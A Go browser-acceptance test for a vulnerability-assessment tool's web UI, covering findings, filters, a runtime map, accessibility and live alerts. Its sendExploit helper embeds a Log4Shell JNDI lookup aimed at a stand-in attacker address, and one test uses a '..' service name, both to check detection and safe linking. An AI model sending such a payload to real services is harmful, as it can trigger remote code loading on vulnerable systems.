package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
	"go.opentelemetry.io/otel/sdk/resource"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/trace"
)

var uiScreenshots = flag.String("ui-screenshots", "", "also write TestUIInBrowser's screenshots to this directory (../../docs/ui for docs/ui.md)")

// chromium finds a Chromium or Chrome to drive; "" when none is
// installed.
func chromium() string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// TestUIInBrowser is issue 15's browser acceptance: headless Chromium
// against serve holding the example shop's recording (polled from
// Tempo's and Pyroscope's query APIs, as TestServeFromSources does). Each
// page renders the example's findings, the filters narrow the table and
// are links, a finding page shows its stack and a not_observed one its
// bound in words, the map shows the PII store downstream of the exposed
// gateway, and an alert fired while the alerts page is open appears
// without a reload. Every page's screenshot is a test artefact
// (-artifacts), and with -ui-screenshots DIR is written there too.
func TestUIInBrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("drives a browser against serve for about 20 s")
	}
	exe := chromium()
	if exe == "" {
		t.Skip("no Chromium to drive: install it (Debian: apt-get install -y chromium) to run the web UI's browser tests")
	}
	srv := startShopServer(t)
	defer shutdown(t, srv)
	base := srv.apiURL()

	// Wait for the recording to be polled and assessed: every finding
	// decided. On a loaded machine, with the race detector, that takes
	// more than the usual 15 s.
	waitWithin(t, 2*time.Minute, "every finding of the shop decided", func() bool {
		var s struct {
			Findings  int            `json:"findings"`
			ByVerdict map[string]int `json:"by_verdict"`
		}
		getJSON(t, base+"/api/v1/summary", &s)
		return s.Findings > 0 && s.ByVerdict["unknown"] == 0
	})

	opts := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]),
		chromedp.ExecPath(exe),
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.NoFirstRun,
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("hide-scrollbars", true),
		chromedp.UserDataDir(t.TempDir()),
		// Chromium makes its singleton's socket directory in TMPDIR and
		// leaves it there when it is killed: one a run in /tmp otherwise.
		chromedp.Env("TMPDIR="+t.TempDir()),
		chromedp.WindowSize(1280, 900),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(t.Context(), opts...)
	defer cancelAlloc()
	ctx, cancelBrowser := chromedp.NewContext(actx, chromedp.WithLogf(t.Logf))
	defer cancelBrowser()
	ctx, cancel := context.WithTimeout(ctx, 4*time.Minute)
	defer cancel()

	run := func(what string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		start := time.Now()
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		t.Logf("%s: %v", what, time.Since(start).Round(time.Millisecond))
	}
	eval := func(expr string, v any) {
		t.Helper()
		got, err := chromedp.Run(ctx, chromedp.Evaluate[json.RawMessage](expr))
		if err == nil && v != nil {
			err = json.Unmarshal(got, v)
		}
		if err != nil {
			t.Fatalf("evaluate %s: %v", expr, err)
		}
	}
	// screenshot also checks what a screen reader and a keyboard need of
	// the page (uiA11yCheck).
	screenshot := func(name string) {
		t.Helper()
		var problems []string
		eval(uiA11yCheck, &problems)
		for _, p := range problems {
			t.Errorf("%s page: %s", name, p)
		}
		png, err := chromedp.Run(ctx, chromedp.FullScreenshot(75))
		if err != nil {
			t.Fatalf("screenshot %s: %v", name, err)
		}
		for _, dir := range []string{t.ArtifactDir(), *uiScreenshots} {
			if dir == "" {
				continue
			}
			if err := os.WriteFile(filepath.Join(dir, name+".jpg"), png, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	text := func(sel string) string {
		t.Helper()
		s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Fatalf("read %s: %v", sel, err)
		}
		return s
	}
	count := func(sel string) int {
		t.Helper()
		var n int
		eval(fmt.Sprintf("document.querySelectorAll(%q).length", sel), &n)
		return n
	}

	// Overview: the backlog cut, the matrix, services by exposure.
	run("open the overview", chromedp.Navigate(base+"/"), chromedp.WaitVisible(chromedp.CSS("#backlog")))
	if got := text("#backlog"); !regexp.MustCompile(`\d+ of 34 findings need action now`).MatchString(got) {
		t.Errorf("overview backlog = %q, want the 34 findings of the shop", got)
	}
	if got := text("#exposure"); !regexp.MustCompile(`(?s)exposed.*gateway.*internal.*catalog.*no_input.*reporter`).MatchString(got) {
		t.Errorf("services by exposure = %q", got)
	}
	screenshot("overview")

	// Findings: the table in priority order, 25 a page.
	run("open the findings", chromedp.Navigate(base+"/ui/findings"), chromedp.WaitVisible(chromedp.CSS("table.findings")))
	if n := count("table.findings tbody tr"); n != 25 {
		t.Errorf("findings page 1 has %d rows, want 25", n)
	}
	// The recorded OSV records carry no severity: the executed and
	// exposed finding leads, in P2.
	if got := text("table.findings tbody tr:first-child"); !regexp.MustCompile(`(?s)^P2.*GO-2026-5970.*gateway\s+executed\s+exposed`).MatchString(got) {
		t.Errorf("first finding = %q, want GO-2026-5970 executed in the exposed gateway", got)
	}
	screenshot("findings")

	// Filters through the form, then as a link.
	run("filter catalog's executed findings",
		chromedp.SetValue(chromedp.CSS(`select[name="service"]`), "catalog"),
		chromedp.SetValue(chromedp.CSS(`select[name="verdict"]`), "executed"),
		chromedp.Click(chromedp.CSS(`form.filters button[type="submit"]`)),
	)
	// The old page has a #count too: wait for the new one.
	waitForBrowser(t, ctx, "the filtered page", `location.search.includes("verdict=executed") && document.readyState === "complete"`)
	loc, err := chromedp.Run(ctx, chromedp.Location())
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(loc, "service=catalog") || !strings.Contains(loc, "verdict=executed") {
		t.Errorf("filtered URL = %s, want the filter in the query", loc)
	}
	if n, rows := count("table.findings tbody tr"), count(`table.findings tbody tr[data-verdict="executed"]`); n != 5 || rows != 5 {
		t.Errorf("catalog executed: %d rows, %d executed, want 5 and 5", n, rows)
	}
	run("filter by text", chromedp.Navigate(base+"/ui/findings?q=go-2026-5970&sort=service"), chromedp.WaitVisible(chromedp.CSS("#count")))
	if n := count("table.findings tbody tr"); n != 4 {
		t.Errorf("text filter GO-2026-5970: %d rows, want 4 (one per service)", n)
	}
	// The shop's server reads no KEV catalog: "No finding matches" would
	// claim that none of the shop's is exploited.
	run("filter by KEV", chromedp.Navigate(base+"/ui/findings?kev=true"), chromedp.WaitVisible(chromedp.CSS(".error")))
	if got := text(".error"); !strings.Contains(got, `kev "true": no KEV catalog is loaded`) {
		t.Errorf("KEV filter without a catalog: %q, want it refused", got)
	}
	run("bad filter", chromedp.Navigate(base+"/ui/findings?tier=P9"), chromedp.WaitVisible(chromedp.CSS(".error")))
	if got := text(".error"); !strings.Contains(got, `tier "P9"`) {
		t.Errorf("bad tier: %q", got)
	}

	// A finding page: the stack through the vulnerable function.
	run("open gateway's GO-2026-5970",
		chromedp.Navigate(base+"/ui/findings?service=gateway&q=GO-2026-5970"),
		chromedp.Click(chromedp.CSS(`table.findings tbody tr:first-child a[href^="/ui/findings/"]`)),
		chromedp.WaitVisible(chromedp.CSS("#flame")),
	)
	var vulnFrames []string
	eval(`Array.from(document.querySelectorAll("#flame .frame.vulnerable title"), t => t.textContent)`, &vulnFrames)
	if len(vulnFrames) == 0 || !strings.Contains(strings.Join(vulnFrames, "\n"), "golang.org/x/text/unicode/norm.") {
		t.Errorf("flame graph's vulnerable frames = %q, want x/text's norm", vulnFrames)
	}
	if got := text("#reachability"); !strings.Contains(got, "GET /search") {
		t.Errorf("finding's endpoints: %q, want GET /search", got)
	}
	screenshot("finding")

	// A not_observed finding: the bound in words.
	run("open gateway's GO-2020-0036",
		chromedp.Navigate(base+"/ui/findings?service=gateway&q=GO-2020-0036"),
		chromedp.Click(chromedp.CSS(`table.findings tbody tr:first-child a[href^="/ui/findings/"]`)),
		chromedp.WaitVisible(chromedp.CSS("#bound")),
	)
	if got := text("#bound"); !regexp.MustCompile(`took \d+ samples over .* rule of three: 3 / \d+`).MatchString(got) {
		t.Errorf("bound = %q", got)
	}
	screenshot("finding-not-observed")

	// The runtime map: the PII store downstream of the exposed gateway.
	run("open the map", chromedp.Navigate(base+"/ui/map"), chromedp.WaitVisible(chromedp.CSS("#runtime-map")))
	var node map[string]string
	eval(`(() => { const g = document.querySelector('#runtime-map [data-node="sqlite://shop/customers"]');
		return g ? {labels: g.dataset.labels || "", downstream: g.dataset.downstreamOf || ""} : {}; })()`, &node)
	if !strings.Contains(node["labels"], "pii") || !strings.Contains(node["downstream"], "gateway") {
		t.Errorf("map node sqlite://shop/customers = %v, want labels pii, downstream of gateway", node)
	}
	if n := count(`#runtime-map [data-node="gateway"][data-exposure="exposed"]`); n != 1 {
		t.Errorf("gateway is not shown exposed on the map")
	}
	if n := count(`#runtime-map .edge.hot[data-from="orders"][data-to="sqlite://shop/customers"]`); n != 1 {
		t.Errorf("orders -> sqlite://shop/customers is not drawn as an exposed path")
	}
	screenshot("map")
	run("prefer a dark colour scheme", chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := cdp.Call(ctx, tg, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}},
		})
		return err
	}))
	var bg string
	eval(`getComputedStyle(document.body).backgroundColor`, &bg)
	if bg != "rgb(13, 17, 23)" {
		t.Errorf("dark scheme: body background %s, want the dark palette's rgb(13, 17, 23)", bg)
	}
	screenshot("map-dark")
	run("back to light", chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
		_, err := cdp.Call(ctx, tg, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{})
		return err
	}))

	// Keyboard: the first Tab reaches the skip link, Enter moves to the
	// content; the map's services are links in the tab order.
	run("tab to the skip link", chromedp.KeyEvent(kb.Tab))
	var focused string
	eval(`document.activeElement.textContent`, &focused)
	if focused != "Skip to content" {
		t.Errorf("first Tab focuses %q, want the skip link", focused)
	}
	run("follow it", chromedp.KeyEvent(kb.Enter))
	eval(`document.activeElement.id`, &focused)
	if focused != "main" {
		t.Errorf("the skip link moved focus to %q, want main", focused)
	}
	var mapLinks int
	eval(`Array.from(document.querySelectorAll("#runtime-map a")).filter(a => a.tabIndex >= 0).length`, &mapLinks)
	if mapLinks != 4 {
		t.Errorf("%d services of the map are in the tab order, want 4", mapLinks)
	}

	// Click through to a service: its Runtime BOM.
	run("open gateway", chromedp.Click(chromedp.CSS(`#runtime-map a[href="/ui/services/gateway"]`)), chromedp.WaitVisible(chromedp.CSS("#svc-endpoints")))
	if got := text("#svc-endpoints"); !strings.Contains(got, "GET /search") {
		t.Errorf("gateway's endpoints: %q", got)
	}
	if got := text("#svc-packages"); !strings.Contains(got, "golang.org/x/text/unicode/norm") {
		t.Errorf("gateway's packages: %q", got)
	}
	screenshot("service")

	// Alerts: one fired while the page is open appears without a reload.
	run("open the alerts", chromedp.Navigate(base+"/ui/alerts"), chromedp.WaitVisible(chromedp.CSS("#alerts")))
	eval(`window.notReloaded = true`, nil)
	waitForBrowser(t, ctx, "the alert stream to connect", `document.getElementById("stream-state").textContent === "live"`)
	before := count(`#alerts tbody tr[data-alert]`)
	sendExploit(t, srv.otlp.HTTPAddr(), "gateway")
	waitForBrowser(t, ctx, "the exploit alert to appear", `document.querySelector('#alerts tbody tr.fresh') !== null`)
	var stillThere bool
	eval(`window.notReloaded === true`, &stillThere)
	if !stillThere {
		t.Error("the alerts page was reloaded")
	}
	if got := text("#alerts tbody tr:first-child"); !strings.Contains(got, "exploit_payload") || !strings.Contains(got, "gateway") {
		t.Errorf("newest alert row = %q, want gateway's exploit_payload", got)
	}
	if after := count(`#alerts tbody tr[data-alert]`); after != before+1 {
		t.Errorf("alert rows: %d before, %d after, want one more", before, after)
	}
	screenshot("alerts")
	// A service named ".." links to its page, not to what a browser
	// resolves /ui/services/.. to (/ui/).
	sendExploit(t, srv.otlp.HTTPAddr(), "..")
	waitForBrowser(t, ctx, "the exploit alert of .. to appear", `document.querySelectorAll('#alerts tbody tr.fresh').length === 2`)
	var evidence string
	eval(`(u => u.pathname + u.search)(new URL(document.querySelector('#alerts tbody tr:first-child a').href))`, &evidence)
	if !strings.HasPrefix(evidence, "/ui/services?name=..") {
		t.Errorf("the evidence link of service ..'s alert arriving live = %q, want /ui/services?name=..", evidence)
	}

	// Findings change live: a scanner report uploaded while the table is
	// open shows without a reload.
	run("open reporter's findings", chromedp.Navigate(base+"/ui/findings?service=reporter"), chromedp.WaitVisible(chromedp.CSS("table.findings")))
	eval(`window.notReloaded = true`, nil)
	if n := count("table.findings tbody tr"); n != 8 {
		t.Fatalf("reporter has %d findings, want 8", n)
	}
	report, err := os.ReadFile(filepath.Join(shop, "recorded", "findings", "gateway.json"))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(base+"/api/v1/findings?service=reporter", "application/json", bytes.NewReader(report))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("upload: %s", resp.Status)
	}
	waitForBrowser(t, ctx, "reporter's new findings in the open table", `document.querySelectorAll("table.findings tbody tr").length === 9 && window.notReloaded === true`)
}

// uiA11yCheck is a script that lists what keeps a page from being used
// with a screen reader or a keyboard: landmarks, one h1, labelled form
// controls, graphics and links, tables with headers and captions.
const uiA11yCheck = `(() => {
	const problems = [];
	const one = (sel, what) => { const n = document.querySelectorAll(sel).length; if (n !== 1) problems.push(n + " " + what + ", want 1"); };
	one("main", "main landmarks");
	one("h1", "h1 headings");
	one("nav[aria-label=Main]", "main navigation landmarks");
	const navs = Array.from(document.querySelectorAll("nav"), n => n.getAttribute("aria-label"));
	if (navs.includes(null) || new Set(navs).size !== navs.length) problems.push("navigation landmarks without distinct labels: " + navs);
	if (!document.documentElement.lang) problems.push("no lang on html");
	for (const c of document.querySelectorAll("input:not([type=hidden]), select, textarea")) {
		if (!c.closest("label") && !c.getAttribute("aria-label") && !(c.id && document.querySelector("label[for='" + c.id + "']"))) problems.push("unlabelled " + c.outerHTML.slice(0, 80));
	}
	for (const g of document.querySelectorAll("svg")) {
		if (g.closest("[aria-hidden=true]") || g.getAttribute("aria-label") || g.getAttribute("aria-labelledby")) continue;
		problems.push("svg without a label: " + g.outerHTML.slice(0, 80));
	}
	for (const i of document.querySelectorAll("img")) if (!i.hasAttribute("alt")) problems.push("img without alt: " + i.src);
	for (const a of document.querySelectorAll("a")) {
		if (!(a.textContent.trim() || a.getAttribute("aria-label") || a.querySelector("title"))) problems.push("link without a name: " + a.outerHTML.slice(0, 80));
	}
	for (const t of document.querySelectorAll("table")) {
		if (!t.querySelector("th")) problems.push("table without headers");
		if (!t.querySelector("caption")) problems.push("table without a caption: " + t.outerHTML.slice(0, 80));
	}
	return problems;
})()`

// waitForBrowser waits until a JavaScript expression holds in the page.
func waitForBrowser(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	deadline := time.Now().Add(time.Minute)
	for {
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](expr))
		// An evaluation that meets the page's navigation (a form just
		// submitted) fails with the old page gone: it is asked again of
		// the new one.
		navigating := err != nil && (strings.Contains(err.Error(), "Inspected target navigated or closed") || strings.Contains(err.Error(), "Execution context was destroyed"))
		if err != nil && !navigating {
			t.Fatalf("waiting for %s: %v", what, err)
		}
		if ok {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s (last error: %v)", what, err)
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// startShopServer starts serve with the shop's configuration, findings
// and vulnerability records, polling the recorded telemetry from test
// Tempo and Pyroscope servers, with an OTLP/HTTP receiver for more.
func startShopServer(t *testing.T) *server {
	t.Helper()
	return startShopServerStore(t, t.TempDir(), defaultStoreConfig())
}

// startShopServerStore is startShopServer with the data directory and the
// store of the caller's.
func startShopServerStore(t *testing.T, data string, st storeConfig) *server {
	t.Helper()
	tempoURL, pyroURL := shopSources(t)

	cfg, err := loadConfig(filepath.Join(shop, "evident.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	test := serveTestConfig(t)
	cfg.Serve.API, cfg.Serve.Engine.AssessInterval, cfg.Serve.ShutdownTimeout = test.Serve.API, test.Serve.Engine.AssessInterval, test.Serve.ShutdownTimeout
	cfg.Serve.OTLP.GRPCEndpoint, cfg.Serve.OTLP.HTTPEndpoint, cfg.Serve.Pyroscope.Endpoint = "", "127.0.0.1:0", ""
	cfg.Serve.Sources.Tempo, cfg.Serve.Sources.Pyroscope = tempoURL, pyroURL
	// The recording is from the past: one window reaches back to it.
	cfg.Serve.Sources.Lookback = 10 * 365 * 24 * time.Hour
	cfg.Serve.Sources.MaxWindow = cfg.Serve.Sources.Lookback
	cfg.Serve.Store = st
	rd := filepath.Join(shop, "recorded")
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join(rd, "osv")}, findings: []string{filepath.Join(rd, "findings")}}, log)
	if err != nil {
		t.Fatal(err)
	}
	return srv
}

// sendExploit exports a request to service carrying a Log4Shell lookup
// in its query, which the exploit rules alert on.
func sendExploit(t *testing.T, addr, service string) {
	t.Helper()
	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(addr), otlptracehttp.WithInsecure())
	if err != nil {
		t.Fatal(err)
	}
	tp := sdktrace.NewTracerProvider(sdktrace.WithSyncer(exp),
		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", service))))
	_, span := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
			attribute.String("url.path", "/search"), attribute.String("url.query", "q=${jndi:ldap://198.51.100.7/a}"),
			attribute.String("client.address", "198.51.100.7")))
	span.End()
	if err := tp.Shutdown(t.Context()); err != nil {
		t.Fatal(err)
	}
}
